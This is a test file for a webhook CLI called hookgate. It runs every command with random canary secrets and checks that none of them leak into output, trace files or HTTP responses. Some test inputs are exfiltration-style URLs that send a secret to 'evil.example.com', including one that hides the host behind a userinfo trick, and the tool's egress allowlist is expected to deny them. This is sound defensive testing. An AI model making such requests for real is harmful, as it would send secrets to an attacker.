/**
 * The canary test: the whole CLI surface runs with a random canary as its secrets, and
 * the canary must occur in no stdout, no stderr, no trace file and no HTTP response body.
 * Every command is a real subprocess (tests/support/cli.ts) with a clean environment.
 */
import assert from "node:assert/strict";
import { createHmac } from "node:crypto";
import { cliCommand, type CliResult, runCli } from "../support/cli.ts";
import { closedPort, startRecordingServer } from "../support/recording_server.ts";
import { startServe } from "../support/serve_process.ts";
import { git, tempRepo } from "../support/temp_repo.ts";
import { type TempDir, tempDir } from "../support/temp_dir.ts";

function randomText(bytes: number): string {
  const raw = crypto.getRandomValues(new Uint8Array(bytes));
  return btoa(String.fromCharCode(...raw)).replace(/[+/=]/g, "").slice(0, Math.ceil(bytes * 1.3));
}

/** At least 16 bytes, so every command accepts it as a secret. */
const CANARY = "cnry" + randomText(30);
const TOKEN_CANARY = "tkcn" + randomText(30);
const PREVIOUS_CANARY = "prev" + randomText(30);
const ROUTE_CANARY = "rtcn" + randomText(30);
/** Too short to be accepted: the error must name the variable, not print this. */
const SHORT_CANARY = randomText(9);
const ALL_CANARIES = [CANARY, TOKEN_CANARY, PREVIOUS_CANARY, ROUTE_CANARY, SHORT_CANARY];

const ENV = {
  WEBHOOK_SECRET: CANARY,
  HOOKGATE_TOKEN_SECRET: TOKEN_CANARY,
  GITHUB_WEBHOOK_SECRET: ROUTE_CANARY,
};

/** Forms in which a leaked canary could appear. */
function leakForms(canary: string): string[] {
  return [canary, encodeURIComponent(canary), btoa(canary).slice(0, 24)];
}

function assertNoCanary(label: string, ...texts: string[]): void {
  for (const text of texts) {
    for (const canary of ALL_CANARIES) {
      for (const form of leakForms(canary)) {
        assert.ok(!text.includes(form), `${label}: a canary leaked:\n${text}`);
      }
    }
  }
}

/**
 * Runs a command that must stop by itself (a refused start-up); one that is still running
 * after `timeoutMs` is stopped and reported as exit -1, so a regression fails, not hangs.
 */
async function runBounded(
  args: string[],
  options: { env: Record<string, string>; cwd: string },
  timeoutMs = 15_000,
): Promise<CliResult> {
  const child = cliCommand(args, options).spawn();
  const timer = setTimeout(() => child.kill("SIGKILL"), timeoutMs);
  try {
    const { code, success, signal, stdout, stderr } = await child.output();
    const decoder = new TextDecoder();
    return {
      code: signal === null || success ? code : -1,
      stdout: decoder.decode(stdout),
      stderr: decoder.decode(stderr),
    };
  } finally {
    clearTimeout(timer);
  }
}

function assertResultClean(label: string, result: CliResult): void {
  assertNoCanary(`${label} (stdout)`, result.stdout);
  assertNoCanary(`${label} (stderr)`, result.stderr);
}

/**
 * A response's body as far as it came: after a 413 serve drops the connection once the
 * answer's one chunk is out, which a reader of the whole body sees as an error.
 */
async function textUntilClosed(response: Response): Promise<string> {
  const decoder = new TextDecoder();
  let text = "";
  try {
    for await (const chunk of response.body ?? []) text += decoder.decode(chunk, { stream: true });
  } catch {
    // the connection ended after the answer
  }
  return text;
}

/** Every file under a directory (trace files, stores), as text, for the canary search. */
async function filesUnder(dir: string): Promise<Map<string, string>> {
  const files = new Map<string, string>();
  const walk = async (path: string) => {
    for await (const entry of Deno.readDir(path)) {
      const full = `${path}/${entry.name}`;
      if (entry.isDirectory) await walk(full);
      else if (entry.isFile && /trace|\.jsonl|\.log/.test(entry.name)) {
        files.set(full, await Deno.readTextFile(full));
      }
    }
  };
  try {
    await walk(dir);
  } catch (error) {
    if (!(error instanceof Deno.errors.NotFound)) throw error;
  }
  return files;
}

function tomorrow(): string {
  return new Date(Date.now() + 86_400_000).toISOString().replace(/\.\d{3}Z$/, "Z");
}

/** A scratch directory for one test, removed however the test ends. */
function canaryDir(): Promise<TempDir> {
  return tempDir("hookgate-canary-");
}

/**
 * A test of `command`'s --trace file, checked line by line: `fn` runs `command`
 * with the trace at `trace` in the scratch directory `cwd`.
 */
function traceTest(
  name: string,
  command: string,
  fn: (cwd: string, trace: string) => Promise<void>,
): void {
  Deno.test(name, async () => {
    await using dir = await canaryDir();
    await fn(dir.path, `${dir.path}/${command}-trace.jsonl`);
  });
}

function traceLines(path: string): Record<string, unknown>[] {
  const text = Deno.readTextFileSync(path);
  assertNoCanary(`trace ${path}`, text);
  return text.split("\n").filter((line) => line !== "").map((line) => {
    const record = JSON.parse(line);
    assert.equal(typeof record.time, "string", line);
    return record;
  });
}

function sign(body: string, ts: number, secret: string): string {
  return createHmac("sha256", secret).update(`${ts}.${body}`).digest("hex");
}

interface Exchange {
  label: string;
  init: RequestInit;
  path?: string;
}

function deliveries(): Exchange[] {
  const now = Math.floor(Date.now() / 1000);
  const good = JSON.stringify({ id: "canary-good", event: "push", note: "hello" });
  const withCanary = JSON.stringify({ id: "canary-echo", token: CANARY, note: `x ${CANARY}` });
  const headers = (body: string, ts: number, secret = CANARY) => ({
    "content-type": "application/json",
    "x-timestamp": String(ts),
    "x-signature": sign(body, ts, secret),
  });
  return [
    { label: "good", init: { method: "POST", body: good, headers: headers(good, now) } },
    {
      label: "good, again (duplicate)",
      init: { method: "POST", body: good, headers: headers(good, now) },
    },
    {
      label: "good, signed with the previous (rotated) secret",
      init: {
        method: "POST",
        body: good.replace("canary-good", "canary-previous"),
        headers: headers(good.replace("canary-good", "canary-previous"), now, PREVIOUS_CANARY),
      },
    },
    {
      label: "good, a payload holding the canary",
      init: { method: "POST", body: withCanary, headers: headers(withCanary, now) },
    },
    {
      label: "forged (signed with another secret)",
      init: {
        method: "POST",
        body: good,
        headers: headers(good, now, "not-the-secret-0123456789"),
      },
    },
    {
      label: "forged, the canary as the signature",
      init: {
        method: "POST",
        body: good,
        headers: { "x-timestamp": String(now), "x-signature": CANARY },
      },
    },
    {
      label: "stale (10 minutes old)",
      init: { method: "POST", body: good, headers: headers(good, now - 600) },
    },
    {
      label: "from the future",
      init: { method: "POST", body: good, headers: headers(good, now + 600) },
    },
    { label: "unsigned", init: { method: "POST", body: good } },
    {
      label: "malformed timestamp",
      init: { method: "POST", body: good, headers: { "x-timestamp": "12ab", "x-signature": "00" } },
    },
    {
      label: "malformed JSON, correctly signed",
      init: { method: "POST", body: "{not json", headers: headers("{not json", now) },
    },
    {
      label: "a JSON array, correctly signed",
      init: { method: "POST", body: "[1,2]", headers: headers("[1,2]", now) },
    },
    {
      label: "too large",
      init: { method: "POST", body: "x".repeat(2_000_000), headers: headers("x", now) },
    },
    {
      label: "the canary in a bearer header to the inspection API",
      path: "/events",
      init: { method: "GET", headers: { authorization: `Bearer ${CANARY}` } },
    },
    {
      label: "the canary as a query string on an unknown path",
      path: `/nope?token=${CANARY}&secret=${CANARY}`,
      init: { method: "GET" },
    },
    { label: "wrong method", init: { method: "GET" } },
    { label: "health check", path: "/healthz", init: { method: "GET" } },
  ];
}

Deno.test("canary: serve answers good, forged, stale and malformed requests without leaking", async () => {
  await using dir = await canaryDir();
  const cwd = dir.path;
  const server = await startServe({
    env: { ...ENV, WEBHOOK_SECRET_PREVIOUS: `${PREVIOUS_CANARY}@${tomorrow()}` },
    cwd,
    args: [
      "--route",
      "/webhook=hookgate:WEBHOOK_SECRET",
      "--route",
      "/github=github:GITHUB_WEBHOOK_SECRET",
    ],
  });
  const bodies: string[] = [];
  try {
    for (const exchange of deliveries()) {
      const response = await fetch(`${server.url}${exchange.path ?? "/webhook"}`, exchange.init);
      const text = await textUntilClosed(response);
      bodies.push(`${exchange.label}: ${response.status} ${text}`);
      assertNoCanary(`serve response to ${exchange.label}`, text);
      assertNoCanary(`serve response headers to ${exchange.label}`, [...response.headers].join());
    }
    const githubBody = '{"zen":"ok"}';
    const github = await fetch(`${server.url}/github`, {
      method: "POST",
      body: githubBody,
      headers: {
        "x-github-delivery": "canary-delivery",
        "x-hub-signature-256": "sha256=" +
          createHmac("sha256", ROUTE_CANARY).update(githubBody).digest("hex"),
      },
    });
    const githubText = await github.text();
    bodies.push(`github: ${github.status} ${githubText}`);
    assertNoCanary("serve response on the github route", githubText);
  } finally {
    const code = await server.stop();
    assert.equal(code, 0, server.stderr());
  }
  assertNoCanary("serve stdout", server.stdout());
  assertNoCanary("serve stderr", server.stderr());
  for (const [path, text] of await filesUnder(cwd)) assertNoCanary(`trace file ${path}`, text);
  // The test must have exercised the accepting path, or it proves little.
  for (
    const accepted of [
      "good: 200",
      "good, signed with the previous (rotated) secret: 200",
      "github: 200",
    ]
  ) {
    assert.ok(bodies.some((line) => line.startsWith(accepted)), bodies.join("\n"));
  }
});

Deno.test("canary: send (accepted, refused, unreachable) leaks nothing", async () => {
  await using dir = await canaryDir();
  const cwd = dir.path;
  const server = await startServe({ env: ENV, cwd });
  const recorder = startRecordingServer(() =>
    new Response(`{"error":"nope"}`, {
      status: 500,
      headers: { "content-type": "application/json" },
    })
  );
  try {
    // Each run with whether send must succeed: a run that fails for another reason proves nothing.
    const runs: [string, boolean, string[]][] = [
      ["accepted", true, ["send", `${server.url}/webhook`, "--data", '{"event":"push"}']],
      ["a payload holding the canary", true, [
        "send",
        `${server.url}/webhook`,
        "--data",
        JSON.stringify({ note: CANARY }),
      ]],
      ["refused 500 with retries", false, ["send", recorder.url, "--data", "{}", "--retries", "1"]],
      ["unreachable", false, [
        "send",
        `http://127.0.0.1:${closedPort()}/webhook`,
        "--data",
        "{}",
        "--retries",
        "0",
      ]],
      ["a URL with the canary as password", false, [
        "send",
        `http://u:${CANARY}@127.0.0.1:${closedPort()}/?token=${CANARY}`,
        "--data",
        "{}",
        "--retries",
        "0",
      ]],
      ["not a JSON object", false, ["send", `${server.url}/webhook`, "--data", "[1]"]],
    ];
    for (const [label, succeeds, args] of runs) {
      const result = await runCli(args, { env: ENV, cwd });
      assertResultClean(`send ${label}`, result);
      assert.equal(result.code === 0, succeeds, `send ${label}: exit ${result.code}`);
    }
    const secretInRecorder = recorder.requests.some((request) =>
      new TextDecoder().decode(request.body).includes(CANARY) ||
      [...request.headers].join().includes(CANARY)
    );
    assert.equal(secretInRecorder, false, "send put the secret itself on the wire");
  } finally {
    await recorder.close();
    await server.stop();
  }
  assertNoCanary("serve stdout", server.stdout());
  for (const [path, text] of await filesUnder(cwd)) assertNoCanary(`trace file ${path}`, text);
});

Deno.test("canary: a denied and a failed fetch leak nothing", async () => {
  await using dir = await canaryDir();
  const cwd = dir.path;
  const port = closedPort();
  const env = {
    ...ENV,
    EGRESS_ALLOW_HOSTS: `api.github.com,http://localhost:${port}`,
    EGRESS_ALLOW_PRIVATE: "localhost",
  };
  const runs: [string, string[]][] = [
    ["denied host", ["fetch", `https://evil.example.com/steal?token=${CANARY}`]],
    ["denied userinfo", ["fetch", `https://api.github.com:${CANARY}@evil.example.com/`]],
    ["denied, dry run", ["fetch", "--dry-run", `https://evil.example.com/?secret=${CANARY}`]],
    ["failed (connection refused)", ["fetch", `http://localhost:${port}/x?api_key=${CANARY}`]],
    ["failed, JSON result", ["fetch", "--json", `http://localhost:${port}/?sig=${CANARY}`]],
  ];
  for (const [label, args] of runs) {
    const result = await runCli(args, { env, cwd });
    assert.notEqual(result.code, 0, `fetch ${label} should not succeed`);
    assertResultClean(`fetch ${label}`, result);
  }
  for (const [path, text] of await filesUnder(cwd)) assertNoCanary(`trace file ${path}`, text);
});

Deno.test("canary: init and doctor leak neither the old secrets nor the new ones", async () => {
  await using repoDir = await tempRepo();
  const repo = repoDir.path;
  Deno.writeTextFileSync(`${repo}/.env`, `HOOKGATE_TOKEN_SECRET=${TOKEN_CANARY}\n`, {
    mode: 0o600,
  });
  const init = await runCli(["init"], { cwd: repo });
  assertResultClean("init", init);
  const envFile = Deno.readTextFileSync(`${repo}/.env`);
  const fresh = /^WEBHOOK_SECRET=(.+)$/m.exec(envFile)?.[1];
  assert.ok(fresh !== undefined && fresh.length >= 32, envFile.replaceAll(TOKEN_CANARY, "…"));
  for (const text of [init.stdout, init.stderr]) {
    assert.ok(!text.includes(fresh), "init printed the new secret");
  }

  const again = await runCli(["init"], { cwd: repo });
  assertResultClean("init, second run", again);
  const doctor = await runCli(["doctor"], { cwd: repo, env: { WEBHOOK_SECRET: CANARY } });
  assertResultClean("doctor", doctor);
  for (const text of [doctor.stdout, doctor.stderr]) assert.ok(!text.includes(fresh));

  // A tracked .env: init refuses (78), doctor fails; neither prints the value.
  await git(repo, "add", "-f", ".env");
  await git(repo, "commit", "--quiet", "-m", "oops");
  const tracked = await runCli(["init"], { cwd: repo });
  assert.equal(tracked.code, 78, tracked.stderr);
  assertResultClean("init with a tracked .env", tracked);
  const doctorTracked = await runCli(["doctor"], { cwd: repo });
  assertResultClean("doctor with a tracked .env", doctorTracked);
  for (const text of [tracked.stdout, tracked.stderr, doctorTracked.stdout, doctorTracked.stderr]) {
    assert.ok(!text.includes(fresh));
  }

  await using placeholderDir = await canaryDir();
  const placeholder = placeholderDir.path;
  Deno.writeTextFileSync(`${placeholder}/.env`, `WEBHOOK_SECRET=${SHORT_CANARY}\n`, {
    mode: 0o644,
  });
  const weak = await runCli(["doctor"], { cwd: placeholder });
  assert.equal(weak.code, 78);
  assertResultClean("doctor with a short secret", weak);
});

Deno.test("canary: every configuration error names the variable, never the value", async () => {
  await using dir = await canaryDir();
  const cwd = dir.path;
  const runs: [string, string[], Record<string, string>][] = [
    ["serve, short secret", ["serve", "--port", "0"], { WEBHOOK_SECRET: SHORT_CANARY }],
    ["serve, no secret", ["serve", "--port", "0"], { HOOKGATE_TOKEN_SECRET: TOKEN_CANARY }],
    ["serve, store URL with a password", ["serve", "--port", "0"], {
      ...ENV,
      HOOKGATE_STORE: `redis://:${CANARY}@127.0.0.1:${closedPort()}/0`,
    }],
    ["serve, bad --store flag with a password", [
      "serve",
      "--port",
      "0",
      "--store",
      `redis://user:${CANARY}@/`,
    ], ENV],
    ["serve, route with a missing variable", [
      "serve",
      "--port",
      "0",
      "--route",
      "/x=github:NO_SUCH_SECRET",
    ], ENV],
    ["serve, route with a short secret", [
      "serve",
      "--port",
      "0",
      "--route",
      "/x=github:SHORT_WEBHOOK_SECRET",
    ], { ...ENV, SHORT_WEBHOOK_SECRET: SHORT_CANARY }],
    ["serve, bad HOOKGATE_ROUTES", ["serve", "--port", "0"], {
      ...ENV,
      HOOKGATE_ROUTES: `nonsense-${CANARY}`,
    }],
    ["send, short secret", ["send", "http://127.0.0.1:9/", "--data", "{}"], {
      WEBHOOK_SECRET: SHORT_CANARY,
    }],
    ["send, no secret", ["send", "http://127.0.0.1:9/", "--data", "{}"], {}],
    ["fetch, bad allowlist", ["fetch", "https://api.github.com/"], {
      ...ENV,
      EGRESS_ALLOW_HOSTS: `http://u:${CANARY}@api.github.com`,
    }],
    ["token, no token secret", ["token", "--scope", "read"], { WEBHOOK_SECRET: CANARY }],
    ["token, token secret equal to the webhook secret", ["token", "--scope", "read"], {
      WEBHOOK_SECRET: CANARY,
      HOOKGATE_TOKEN_SECRET: CANARY,
    }],
    ["token, short token secret", ["token", "--scope", "read"], {
      HOOKGATE_TOKEN_SECRET: SHORT_CANARY,
    }],
  ];
  for (const [label, args, env] of runs) {
    const result = await runBounded(args, { env, cwd });
    // 78 configuration, 64 usage, 69 an unreachable store: refused at start-up, never a crash (70).
    assert.ok(
      [64, 69, 78].includes(result.code),
      `${label}: exit ${result.code}\n${result.stderr}`,
    );
    assertResultClean(label, result);
  }
  // With the secret in .env instead of the environment.
  Deno.writeTextFileSync(`${cwd}/.env`, `WEBHOOK_SECRET=${SHORT_CANARY}\n`);
  assertResultClean(
    ".env short secret",
    await runBounded(["serve", "--port", "0"], { cwd, env: {} }),
  );
});

Deno.test("canary: usage errors, help and version leak nothing", async () => {
  const runs = [
    ["serve", "--port", CANARY],
    ["send", "--bogus", CANARY],
    ["fetch"],
    ["redact", CANARY],
    ["nonsense-command", CANARY],
    ["--help"],
    ["--version"],
    ...["serve", "send", "fetch", "redact", "init", "doctor", "token"].map((
      name,
    ) => [name, "--help"]),
  ];
  for (const args of runs) assertResultClean(args.join(" "), await runCli(args, { env: ENV }));
});

Deno.test("canary: redact --secrets-from-env and token leak nothing", async () => {
  const redact = await runCli(["redact", "--secrets-from-env"], {
    env: ENV,
    stdin: `WEBHOOK_SECRET=${CANARY}\nplain ${CANARY} ${TOKEN_CANARY} ${
      encodeURIComponent(ROUTE_CANARY)
    }\n`,
  });
  assert.equal(redact.code, 0, redact.stderr);
  assertResultClean("redact --secrets-from-env", redact);
  const token = await runCli(["token", "--scope", "read"], { env: ENV });
  assert.equal(token.code, 0, token.stderr);
  assertResultClean("token", token);
});

Deno.test("canary: rotate prints neither the old secret nor the new one", async () => {
  await using dir = await canaryDir();
  const cwd = dir.path;
  Deno.writeTextFileSync(
    `${cwd}/.env`,
    `WEBHOOK_SECRET=${CANARY}\nGITHUB_WEBHOOK_SECRET=${ROUTE_CANARY}\n`,
    { mode: 0o600 },
  );
  const outputs: string[] = [];
  for (const args of [["rotate"], ["rotate"], ["rotate", "--var", "GITHUB_WEBHOOK_SECRET"]]) {
    const result = await runCli(args, { cwd });
    assert.equal(result.code, 0, result.stderr);
    assertResultClean(args.join(" "), result);
    outputs.push(result.stdout, result.stderr);
  }
  // The secrets rotate wrote (current and previous) appear in no output either.
  const env = Deno.readTextFileSync(`${cwd}/.env`);
  const written = [...env.matchAll(/^[A-Z_]+=(.*)$/gm)].flatMap((m) =>
    (m[1] as string).split(",").map((entry) => entry.replace(/@[0-9TZ:.-]+$/, ""))
  ).filter((value) => value.length >= 16);
  assert.ok(written.length >= 4, "rotate wrote new secrets");
  for (const secret of written) {
    for (const text of outputs) assert.ok(!text.includes(secret), "rotate printed a secret");
  }
  const bad = await runCli(["rotate", "--var", "NO_SUCH_SECRET"], { cwd });
  assertResultClean("rotate of a missing variable", bad);
});

traceTest(
  "canary: serve's trace holds a valid line per request and no canary",
  "serve",
  async (cwd, trace) => {
    const server = await startServe({ env: ENV, cwd, args: ["--trace", trace] });
    const exchanges = deliveries();
    try {
      for (const exchange of exchanges) {
        const response = await fetch(`${server.url}${exchange.path ?? "/webhook"}`, exchange.init);
        await response.body?.cancel();
      }
    } finally {
      await server.stop();
    }
    const records = traceLines(trace);
    // Refusals of one reason within a second share one record that counts them.
    const described = records.reduce((sum, record) => sum + (Number(record.count) || 1), 0);
    assert.ok(described >= exchanges.length, `${described} requests in the trace`);
    const requests = records.filter((record) => record.type === "request");
    assert.ok(requests.length > 0, "request records in the trace");
    for (const record of requests) {
      assert.equal(record.remoteAddress, "127.0.0.1");
    }
  },
);

traceTest(
  "canary: send's trace records each attempt and no canary",
  "send",
  async (cwd, trace) => {
    const url = `http://u:${CANARY}@127.0.0.1:${closedPort()}/?token=${CANARY}`;
    const args = ["send", url, "--data", JSON.stringify({ note: CANARY }), "--retries", "1"];
    const result = await runCli([...args, "--trace", trace], { env: ENV, cwd });
    assertResultClean("send", result);
    assert.notEqual(result.code, 0, "send to a closed port succeeded");
    assert.ok(traceLines(trace).length >= 2, "one line per attempt");
  },
);

traceTest(
  "canary: fetch's trace records a denial and a failure and no canary",
  "fetch",
  async (cwd, trace) => {
    const port = closedPort();
    const env = {
      ...ENV,
      EGRESS_ALLOW_HOSTS: `http://localhost:${port}`,
      EGRESS_ALLOW_PRIVATE: "localhost",
    };
    for (
      const url of [
        `https://evil.example.com/?token=${CANARY}`,
        `http://localhost:${port}/?sig=${CANARY}`,
      ]
    ) {
      assertResultClean(
        `fetch ${url}`,
        await runCli(["fetch", url, "--trace", trace], { env, cwd }),
      );
    }
    assert.ok(traceLines(trace).length >= 2, "one line per fetch");
  },
);
